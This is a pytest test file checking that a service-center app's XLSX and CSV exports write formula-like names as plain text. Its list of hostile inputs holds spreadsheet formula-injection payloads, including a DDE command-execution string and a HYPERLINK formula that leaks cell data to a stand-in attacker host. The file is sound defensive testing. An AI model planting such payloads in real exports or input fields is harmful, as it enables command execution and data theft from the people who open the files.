"""Exports never carry a formula: hostile names stay text in XLSX and CSV, center and HQ."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from server.web import exports
from tests.conftest import login

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A2,"Bax")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_written_as_text(name):
    rows = [[name, 12, "Arayış"]]
    book = load_workbook(io.BytesIO(exports.table_xlsx(["name", "n", "az"], rows)))
    cell = book["Visits"]["A2"]
    assert cell.data_type == "s"
    assert cell.value == name.replace("\r", "\n")  # XML reads a carriage return as \n
    with zipfile.ZipFile(io.BytesIO(exports.table_xlsx(["name"], rows))) as xlsx:
        sheet = xlsx.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    (header, row) = csv.reader(io.StringIO(exports.table_csv(["name"], rows).decode("utf-8-sig")))
    assert row == [f"'{name}", "12", "Arayış"]  # benign text and numbers untouched


def test_a_service_named_like_a_formula_exports_as_text_from_the_managers_pages(app_center):
    client = app_center.app.test_client()
    csrf = login(client, "manager", "floor-boss-secret")
    center = app_center.app.extensions["dostq.center"]
    with center.store.write() as conn:
        conn.execute("UPDATE services SET name_az = ? WHERE code = '2.1'", (HOSTILE[1],))
        conn.execute("UPDATE counters SET name = ? WHERE id = 1", (HOSTILE[0],))
    kiosk = {"Authorization": f"Device {app_center.kiosk_token}"}
    client.post("/api/v1/tickets", json={"service": "2.1", "print": False}, headers=kiosk)
    client.post("/api/v1/counters/1/session", headers=csrf)
    client.post("/api/v1/counters/1/call-next", headers=csrf)
    day = "2026-11-23"  # T0's day in Baku
    for kind in ("report", "visits"):
        body = client.get(f"/manager/{kind}.xlsx?from={day}&to={day}").data
        with zipfile.ZipFile(io.BytesIO(body)) as xlsx:
            names = [n for n in xlsx.namelist() if n.startswith("xl/worksheets/")]
            sheets = "".join(xlsx.read(n).decode() for n in names)
        assert "HYPERLINK" in sheets and "<f>" not in sheets, kind
    text = client.get(f"/manager/report.csv?from={day}&to={day}").data.decode("utf-8-sig")
    assert f"'{HOSTILE[1]}".replace('"', '""') in text
